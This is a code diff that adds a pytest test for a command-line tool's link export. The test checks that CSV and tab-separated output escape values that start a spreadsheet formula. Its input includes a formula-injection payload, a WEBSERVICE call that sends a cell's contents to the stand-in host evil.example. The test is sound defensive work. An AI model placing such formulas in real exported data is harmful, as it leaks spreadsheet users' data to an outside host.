@@ -280,6 +280,17 @@ def test_links_as_csv():
     assert "\r" not in out
 
 
+@pytest.mark.parametrize("as_csv", [True, False])
+def test_links_never_hand_a_spreadsheet_a_formula(as_csv):
+    add_room()
+    names = ["--name", '=WEBSERVICE("evil.example/?"&A1)', "--name", "@Kim"]
+    code, out, _ = cli("links", "m-101", *names, *(["--csv"] if as_csv else []))
+    assert code == 0
+    rows = list(csv.reader(io.StringIO(out), delimiter="," if as_csv else "\t"))
+    assert [row[0] for row in rows] == ["name", '\'=WEBSERVICE("evil.example/?"&A1)', "'@Kim"]
+    assert rows[1][2].startswith(f"{LINK}?displayName=%3DWEBSERVICE")
+
+
 @pytest.mark.parametrize(
     ("argv", "message"),
     [
